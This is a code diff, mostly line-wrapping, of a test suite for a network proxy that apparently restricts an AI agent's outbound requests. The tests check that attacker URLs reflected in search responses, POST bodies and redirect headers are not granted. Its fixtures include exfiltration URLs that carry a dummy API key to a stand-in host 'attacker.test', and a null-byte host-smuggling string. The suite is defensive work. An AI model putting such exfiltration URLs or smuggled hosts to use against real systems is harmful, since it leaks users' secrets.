@@ -16,7 +16,18 @@ const SECRET = 'sk-live-7Hq2ZpX9wLm4Rt8Vb3Nc';
 let api: TestOrigin;
 let attacker: TestOrigin;
 let leash: TestLeash;
-const HOSTS = ['search.test', 'narrow.test', 'attacker.test', 'img.cdn.test', 'big.cdn.test', 'other.test', 'broken.cdn.test', 'cut.cdn.test', 'allowed.cdn.test', 'late.cdn.test'];
+const HOSTS = [
+  'search.test',
+  'narrow.test',
+  'attacker.test',
+  'img.cdn.test',
+  'big.cdn.test',
+  'other.test',
+  'broken.cdn.test',
+  'cut.cdn.test',
+  'allowed.cdn.test',
+  'late.cdn.test',
+];
 
 const at = (host: string, path = '/') => `http://${host}:${attacker.port}${path}`;
 
@@ -32,9 +43,15 @@ beforeAll(async () => {
     switch (url.pathname) {
       case '/search':
         // Echoes the query, as most search APIs do, next to a legitimate image.
-        return json({ query: q, results: [{ title: `Results for ${q}`, url: q, image: at('img.cdn.test', '/thumb.png') }] });
+        return json({
+          query: q,
+          results: [{ title: `Results for ${q}`, url: q, image: at('img.cdn.test', '/thumb.png') }],
+        });
       case '/post':
-        return json({ echo: body.toString('utf8').slice(0, 1000), results: [{ image: at(body.length > 65536 ? 'big.cdn.test' : 'img.cdn.test', '/ok.png') }] });
+        return json({
+          echo: body.toString('utf8').slice(0, 1000),
+          results: [{ image: at(body.length > 65536 ? 'big.cdn.test' : 'img.cdn.test', '/ok.png') }],
+        });
       case '/html':
         res.writeHead(200, { 'content-type': 'text/html' });
         return res.end(`<p>You searched for <a href="${q.replace(/"/g, '&quot;')}">${q}</a></p>`);
@@ -54,19 +71,26 @@ beforeAll(async () => {
         return res.end(`{"u":"http://allowed.cdn.test\\u0000.attacker.test:${attacker.port}/"}`);
       case '/many':
         res.writeHead(200, { 'content-type': 'application/json' });
-        return res.end(JSON.stringify({ links: Array.from({ length: MAX_REFERENCES + 2000 }, (_, i) => `http://h${i}.many.test/`), last: at('late.cdn.test') }));
+        return res.end(
+          JSON.stringify({
+            links: Array.from({ length: MAX_REFERENCES + 2000 }, (_, i) => `http://h${i}.many.test/`),
+            last: at('late.cdn.test'),
+          }),
+        );
       default:
         res.writeHead(404).end();
     }
   });
-  leash = await startLeash(policy(`
+  leash = await startLeash(
+    policy(`
 settings:
   dns: { hosts: { ${HOSTS.map((h) => `${h}: 127.0.0.1`).join(', ')} } }
   network: { allowCidrs: ["127.0.0.0/8"] }
 rules:
   - { name: search, domain: search.test, ports: [${api.port}], inspect: [json, html], effect: allow }
   - { name: narrow, domain: narrow.test, ports: [${api.port}], inspect: { types: [json], grant: { hosts: ["*.cdn.test"] } }, effect: allow }
-`));
+`),
+  );
 });
 
 afterAll(async () => {
@@ -76,7 +100,8 @@ afterAll(async () => {
 });
 
 const get = (url: string) => curl({ url, proxy: leash.url });
-const grantRecords = async (host: string) => (await leash.records()).filter((r) => r.event === 'grant' && r.host === host);
+const grantRecords = async (host: string) =>
+  (await leash.records()).filter((r) => r.event === 'grant' && r.host === host);
 
 describe('no self-granted exfiltration (issue 11 §1)', () => {
   it('the attack: a URL echoed from the query is not granted, the secret never leaves, and the skip is audited', async () => {
@@ -89,7 +114,12 @@ describe('no self-granted exfiltration (issue 11 §1)', () => {
     expect(r.headers['x-leash-decision']).toBe('deny; reason=no_rule');
     expect(attacker.seen.filter((s) => s.url.includes(SECRET))).toEqual([]);
     const [skip] = await grantRecords('attacker.test');
-    expect(skip).toMatchObject({ reason: 'grant_skipped', effect: 'deny', rule: 'search', grant: { skipped: 'reflected', found: '$.query' } });
+    expect(skip).toMatchObject({
+      reason: 'grant_skipped',
+      effect: 'deny',
+      rule: 'search',
+      grant: { skipped: 'reflected', found: '$.query' },
+    });
   });
 
   it('the legitimate image in the same response is still granted', async () => {
@@ -116,12 +146,20 @@ describe('no self-granted exfiltration (issue 11 §1)', () => {
     const r = await get(`http://search.test:${api.port}/go?q=${encodeURIComponent(steal)}`);
     expect(r.status).toBe(302);
     expect((await get(steal)).status).toBe(403);
-    expect((await grantRecords('attacker.test')).some((x) => (x.grant as { found: string }).found === 'header Location')).toBe(true);
+    expect(
+      (await grantRecords('attacker.test')).some((x) => (x.grant as { found: string }).found === 'header Location'),
+    ).toBe(true);
   });
 
   it('echoed from a POST body: not granted', async () => {
     const steal = at('attacker.test', `/p?k=${SECRET}`);
-    await curl({ url: `http://search.test:${api.port}/post`, proxy: leash.url, method: 'POST', data: JSON.stringify({ q: steal }), headers: { 'content-type': 'application/json' } });
+    await curl({
+      url: `http://search.test:${api.port}/post`,
+      proxy: leash.url,
+      method: 'POST',
+      data: JSON.stringify({ q: steal }),
+      headers: { 'content-type': 'application/json' },
+    });
     expect((await get(steal)).status).toBe(403);
   });
 
@@ -148,16 +186,24 @@ describe('a response that starts while the request body is still streaming', () 
     });
     await new Promise<void>((resolve) => early.listen(0, '127.0.0.1', resolve));
     const port = (early.address() as AddressInfo).port;
-    const l = await startLeash(policy(`
+    const l = await startLeash(
+      policy(`
 settings:
   dns: { hosts: { early.test: 127.0.0.1, attacker.test: 127.0.0.1 } }
   network: { allowCidrs: ["127.0.0.0/8"] }
 rules:
   - { name: early, domain: early.test, ports: [${port}], inspect: [json], effect: allow }
-`));
+`),
+    );
     try {
       const steal = at('attacker.test', `/early?k=${SECRET}`);
-      const upload = http.request({ host: '127.0.0.1', port: l.port, method: 'POST', path: `http://early.test:${port}/upload`, headers: { host: `early.test:${port}`, 'transfer-encoding': 'chunked' } });
+      const upload = http.request({
+        host: '127.0.0.1',
+        port: l.port,
+        method: 'POST',
+        path: `http://early.test:${port}/upload`,
+        headers: { host: `early.test:${port}`, 'transfer-encoding': 'chunked' },
+      });
       const response = new Promise<string>((resolve, reject) => {
         upload.on('response', (res) => {
           let body = '';
@@ -221,7 +267,11 @@ describe('inspection is bounded (issue 19)', () => {
     expect(stop).toMatchObject({ event: 'grant', rule: 'search' });
     // The reference budget, unless a loaded machine spent the time budget first: never more than either allows.
     expect(stop.grant.references).toBeLessThanOrEqual(MAX_REFERENCES);
-    expect(stop.grant.stopped === 'reference_budget' ? stop.grant.references === MAX_REFERENCES : stop.grant.stopped === 'time_budget').toBe(true);
+    expect(
+      stop.grant.stopped === 'reference_budget'
+        ? stop.grant.references === MAX_REFERENCES
+        : stop.grant.stopped === 'time_budget',
+    ).toBe(true);
     // Past the budget nothing more is examined: the reference after it was never granted.
     expect((await get(at('late.cdn.test'))).status).toBe(403);
   });
